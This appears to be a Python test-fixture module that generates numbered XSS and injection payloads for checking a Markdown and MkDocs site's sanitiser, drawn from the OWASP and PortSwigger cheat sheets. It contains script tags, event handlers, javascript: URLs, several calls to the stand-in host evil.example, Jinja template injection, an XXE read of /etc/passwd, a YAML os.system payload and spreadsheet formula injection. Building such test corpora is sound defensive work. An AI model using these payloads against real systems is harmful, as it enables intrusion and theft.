"""Words that try to become more than words. Each calls alert with its own number, or goes to
`evil.example` with it, so that a test can tell which one got through.

After the cheat sheets of OWASP (https://cheatsheetseries.owasp.org/cheatsheets/
XSS_Filter_Evasion_Cheat_Sheet.html) and PortSwigger
(https://portswigger.net/web-security/cross-site-scripting/cheat-sheet), with what is special to
Markdown, Jinja, MkDocs, Material, JSON-LD and SVG.
"""

from __future__ import annotations

import re
from itertools import product

FIRST = 100
_NUMBER = re.compile(r"(?<![A-Za-z])N(?![A-Za-z])")
_OUT = (
    "",
    '">',
    "'>",
    "--></style></title></textarea></script>",
    "]]>",
    '\\">',
)
"""Ways out of text, attributes, comments, raw text, CDATA and strings of JSON."""
_ELEMENTS = (
    "<script>alert(N)</script>",
    "<ScRiPt/x>alert(N)</sCrIpT >",
    "<script src=//evil.example/N.js></script>",
    "<script src='data:text/javascript,alert(N)'></script>",
    "<script type=module>import('//evil.example/N')</script>",
    "<img src=x onerror=alert(N)>",
    "<img/src='x'/onerror='alert(N)'>",
    "<img src=//evil.example/N>",
    "<svg onload=alert(N)>",
    "<svg><script>alert(N)</script></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(N)/>#x'></svg>",
    "<svg><a xlink:href='javascript:alert(N)'><text y=20>x</text></a></svg>",
    "<math><mtext><script>alert(N)</script></mtext></math>",
    "<math href='javascript:alert(N)'>x</math>",
    "<body onload=alert(N)>",
    "<body onpageshow=alert(N)>",
    "<details open ontoggle=alert(N)>x</details>",
    "<input autofocus onfocus=alert(N)>",
    "<select autofocus onfocus=alert(N)></select>",
    "<video src=x onerror=alert(N)></video>",
    "<video><source onerror=alert(N)></video>",
    "<audio src=x onerror=alert(N)></audio>",
    "<marquee onstart=alert(N)>x</marquee>",
    "<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>",
    "<iframe src='javascript:parent.alert(N)'></iframe>",
    "<object data='javascript:alert(N)'></object>",
    "<embed src='javascript:alert(N)'>",
    "<form action='javascript:alert(N)'><button autofocus>x</button></form>",
    "<button popovertarget=x onbeforetoggle=alert(N)>x</button>",
    "<div popover id=x onbeforetoggle=alert(N)>x</div>",
    "<style>@import '//evil.example/N';</style>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(N)>x</b>",
    "<link rel=stylesheet href=//evil.example/N>",
    "<link rel=prefetch href=//evil.example/N>",
    "<base href=//evil.example/N/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
    "<a href='javascript:alert(N)' autofocus>x</a>",
    "<template><img src=x onerror=alert(N)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(N)>'>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(N)" x="',
    "' onfocus='alert(N)' autofocus x='",
    '" autofocus onfocus=alert(N) x="',
    "` onclick=alert(N) x=`",
    '" style="background:url(//evil.example/N)" x="',
    '" srcset="//evil.example/N" x="',
    '" data-card="x" popover id="x" onbeforetoggle="alert(N)',
    '" class="search" data-search="x" onclick="alert(N)',
    " onload=alert(N) x=",
    "&quot; onmouseover=&quot;alert(N)&quot;",
    "&#34;><img src=x onerror=alert(N)>",
)
_SCHEMES = (
    "javascript:alert(N)",
    "JaVaScRiPt:alert(N)",
    " javascript:alert(N)",
    "javascript&colon;alert(N)",
    "javascript&#58;alert(N)",
    "&#x6A;avascript:alert(N)",
    "java&Tab;script:alert(N)",
    "java&NewLine;script:alert(N)",
    "javascript://x.example/%0aalert(N)",
    "data:text/html,<script>alert(N)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiN4",
    "data:image/svg+xml,<svg onload=alert(N)>",
    "vbscript:msgbox(N)",
    "blob:javascript:alert(N)",
    "filesystem:javascript:alert(N)",
    "view-source:javascript:alert(N)",
    "//evil.example/N",
    "https:javascript:alert(N)",
    "https://x.example/'onmouseover=alert(N)//",
    'https://x.example/"onmouseover=alert(N)//',
)
_PLACES = (
    "[x](S)",
    "[x](<S>)",
    "![x](S)",
    "<S>",
    "[x][r-N]\n\n[r-N]: S",
    '[x](https://x.example/N "S")',
    "[S](https://x.example/N)",
)
_OTHERS = (
    # Jinja and MkDocs
    "{{ 7 * 191 }} alert(N)",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ 7 * 191 }}{% endfor %} alert(N)",
    "{{ config.__class__ }}{# alert(N) #}",
    "{%- raw -%}alert(N){%- endraw -%}",
    # attribute lists and other extensions of Python-Markdown
    "{: onclick=alert(N) }",
    "{: #x onmouseover=alert(N) .y}",
    "{#x onmouseover=alert(N)}",
    "x {: style='x' onclick=alert(N)}",
    "[TOC] alert(N)",
    "[^N] alert(N)\n\n[^N]: <script>alert(N)</script>",
    "*[alert(N)]: <script>alert(N)</script>",
    '??? note "<script>alert(N)</script>"',
    '--8<-- "/etc/passwd" alert(N)',
    ":::script alert(N) :::",
    # code, comments, entities, half of something
    "`</code><script>alert(N)</script>`",
    '``` "><script>alert(N)</script>\nx\n```',
    "~~~ x onclick=alert(N)\n</code></pre><script>alert(N)</script>\n~~~",
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(N)&amp;lt;/script&amp;gt;",
    "\\<script\\>alert(N)\\</script\\>",
    "\\u003cscript\\u003ealert(N)\\u003c/script\\u003e",
    "<script>alert(N)",
    "<img src=x onerror=alert(N) ",
    "<<script>alert(N)//<</script>",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    "<!--<img src='--><img src=x onerror=alert(N)>'>",
    "<![CDATA[<script>alert(N)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(N)'?>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x; alert(N)",
    "</p></div></main></body></html><script>alert(N)</script>",
    "</svg></math><script>alert(N)</script>",
    "</blockquote><script>alert(N)</script>",
    # strings of scripts, JSON and YAML
    "';alert(N);//",
    '";alert(N);//',
    "`;${alert(N)}//",
    "${alert(N)}",
    '"}</script><script>alert(N)</script>',
    '"}, "x": {"@type": "ClaimReview", "url": "javascript:alert(N)"}, {"',
    "---\ntemplate: ../../main.html\njsonld: <script>alert(N)</script>\n---",
    "x: y # alert(N)",
    "!!python/object/apply:os.system ['alert(N)']",
    # the drawing room
    "$\\frac{alert(N)}$",
    "$alert(N",
    "url(javascript:alert(N))",
    "var(--x); background: url(//evil.example/N)",
    # what a search index or a spreadsheet may do
    "__proto__ constructor alert(N)",
    '=HYPERLINK("https://evil.example/N","alert(N)")',
    "+1+cmd|' /C alert(N)'!A0",
)


def payloads() -> tuple[str, ...]:
    """All payloads, each with its own number."""
    shapes = [way + element for way, element in product(_OUT, _ELEMENTS)]
    shapes += _ATTRIBUTES
    shapes += [place.replace("S", scheme) for place, scheme in product(_PLACES, _SCHEMES)]
    shapes += _OTHERS
    return tuple(_NUMBER.sub(str(number), shape) for number, shape in enumerate(shapes, FIRST))
